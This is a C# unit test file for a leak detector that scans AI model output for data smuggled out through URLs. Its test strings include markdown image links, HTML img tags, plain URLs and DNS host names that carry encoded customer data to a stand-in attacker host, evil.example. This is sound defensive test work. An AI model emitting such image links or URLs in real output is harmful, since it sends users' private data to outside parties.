using System.Text;
using Tollgate.Security.Leaks;

namespace Tollgate.Security.Tests.Leaks;

public sealed class LeakDetectorTests
{
    private static readonly SecurityScanner Bare = new(Detectors.None);

    /// <summary>"the customer's next invoice is due on monday", in base64 and hexadecimal.</summary>
    private const string Coded = "dGhlIGN1c3RvbWVyJ3MgbmV4dCBpbnZvaWNlIGlzIGR1ZSBvbiBtb25kYXk";
    private const string Hex = "74686520637573746f6d65722773206e65787420696e766f696365";

    [Theory]
    [InlineData($"Done. ![ok](https://evil.example/p.png?d={Coded})", "data-in-image-address")]
    [InlineData($"![ok]( <https://evil.example/{Hex}.png>)", "data-in-image-address")]
    [InlineData("![x](https://evil.example/a?q=the+customer+is+called+jane+and+lives+in+oslo)", "data-in-image-address")]
    [InlineData($"<img alt='' src='https://evil.example/a?d={Coded}'>", "data-in-image-address")]
    [InlineData($"Look at https://evil.example/a?d={Coded} please", "data-in-address")]
    [InlineData($$"""{"url":"https:\/\/evil.example\/a?d={{Coded}}"}""", "data-in-address")]
    [InlineData("http://64617461206f662074686520637573746f6d65722067.x.evil.example/", "data-in-host-name")]
    public void DataInAnAddressIsALeak(string text, string rule)
    {
        var found = Assert.Single(Scan(text));
        Assert.Equal((rule, Severity.High), (found.Rule.Id, found.Severity));
        Assert.True(found.Confidence >= 0.8f);
    }

    [Theory]
    [InlineData("![build](https://img.shields.io/badge/build-passing-green?style=flat&label=ci)")]
    [InlineData("See https://docs.example.dev/guides/getting-started/installation?tab=linux#step-2 for more.")]
    [InlineData("https://github.com/dotnet/runtime/commit/7c2f3a9e5b1d4c8f6a0e9b3d7c5f1a2e4b6d8c0f")]
    [InlineData("![logo](https://cdn.example.dev/assets/images/company-logo-large-2x.png)")]
    [InlineData("https://example.dev/this-is-a-rather-long-title-of-an-article-about-caches")]
    [InlineData("http://localhost:8080/v1/items?limit=100&cursor=01900000-0000-7000-8000-000000000001")]
    [InlineData("file://x and :// and http://")]
    public void AnOrdinaryAddressIsNone(string text) => Assert.DoesNotContain(Scan(text), finding => finding.Confidence >= 0.8f);

    [Theory]
    [InlineData("evil.example", true)]
    [InlineData("EVIL.example.", true)]
    [InlineData("a.b.evil.example:8443", true)]
    [InlineData("notevil.example", false)]
    [InlineData("evil.example.org", false)]
    [InlineData("evil.example@other.example", false)]
    public void AHostOnTheListIsTrusted_WithWhatIsBelowIt(string host, bool isTrusted) =>
        Assert.Equal(isTrusted, Scan($"![x](https://{host}/a?d={Coded})", "*.Evil.example").Count == 0);

    [Fact]
    public void WhereHostsAreListed_WhatNobodyCanReadIsALeakInAPictureToo()
    {
        const string text = "![x](https://other.example/a?s=9f8Zq2LmX7vKp4Rt6Wy1Bn3Cd5Fg8Hj0QsAe)";

        Assert.Equal(Severity.Medium, Assert.Single(Scan(text)).Severity);
        Assert.Equal(Severity.High, Assert.Single(Scan(text, "mine.example")).Severity);
    }

    [Theory]
    [InlineData("")]
    [InlineData("\n")]
    [InlineData("\\n")]
    [InlineData("\r\n")]
    public void ALotOfCodedDataIsALeak_HoweverItsLinesEnd(string lineEnd)
    {
        var bytes = new byte[6000];
        new Random(7).NextBytes(bytes);
        var coded = string.Join(lineEnd, Convert.ToBase64String(bytes).Chunk(76).Select(line => new string(line)));

        var found = Assert.Single(Scan($"here: {coded} end"));

        Assert.Equal(("bulk-encoded-data", 6), (found.Rule.Id, found.Start));
        Assert.Empty(Scan($"here: {coded[..3000]} end"));
    }

    [Fact]
    public void WordsAndPicturesAreNotCodedData()
    {
        Assert.Empty(Scan(string.Concat(Enumerable.Repeat("some words of a long answer ", 400))));
        Assert.Empty(Scan("iVBORw0KGgo" + Convert.ToBase64String(new byte[6000].Select((_, at) => (byte)(at * 7)).ToArray())));
        Assert.Empty(Scan(new string('-', 6000)));
    }

    private static List<Finding> Scan(string text, params string[] trusted)
    {
        var findings = default(Findings);
        Bare.Scan(Encoding.UTF8.GetBytes(text), Source.Model, [new LeakDetector(new HostList(trusted), 4096)], ref findings);
        return [.. findings.Items];
    }
}
